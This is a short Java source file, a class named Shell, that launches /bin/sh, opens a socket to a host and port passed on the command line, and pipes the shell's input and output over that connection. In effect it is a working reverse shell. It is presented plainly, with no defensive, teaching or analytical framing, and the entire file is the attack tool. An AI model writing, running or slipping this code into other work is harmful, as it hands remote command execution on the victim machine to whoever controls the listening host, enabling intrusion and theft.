import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;

/** Starts a shell, then connects, and carries bytes between the two: the shell's descriptors are pipes. */
public final class Shell {
    public static void main(String[] args) throws Exception {
        Process shell = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
        try (Socket socket = new Socket(args[0], Integer.parseInt(args[1]))) {
            Thread answers = new Thread(() -> copy(shell.getInputStream(), outputOf(socket)));
            answers.setDaemon(true);
            answers.start();
            copy(socket.getInputStream(), shell.getOutputStream());
        } finally {
            shell.destroy();
        }
    }

    private static OutputStream outputOf(Socket socket) {
        try {
            return socket.getOutputStream();
        } catch (IOException gone) {
            return OutputStream.nullOutputStream();
        }
    }

    private static void copy(InputStream from, OutputStream to) {
        byte[] buffer = new byte[4096];
        try {
            for (int count; (count = from.read(buffer)) > 0; ) {
                to.write(buffer, 0, count);
                to.flush();
            }
        } catch (IOException gone) {
            // the other side closed: the conversation is over
        }
    }
}
